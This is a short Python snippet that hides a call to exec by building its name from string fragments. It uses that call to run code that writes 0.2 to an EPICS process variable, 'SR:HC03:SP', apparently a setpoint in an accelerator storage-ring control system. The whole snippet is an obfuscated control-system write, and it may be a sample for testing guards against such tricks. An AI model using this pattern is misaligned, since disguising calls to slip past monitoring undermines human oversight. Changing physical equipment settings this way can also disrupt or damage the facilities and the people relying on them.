import builtins

run = vars(builtins)["ex" + "ec"]
run("from epics import caput as go\ngo('SR:HC03:SP', 0.2)", {})
results = {}
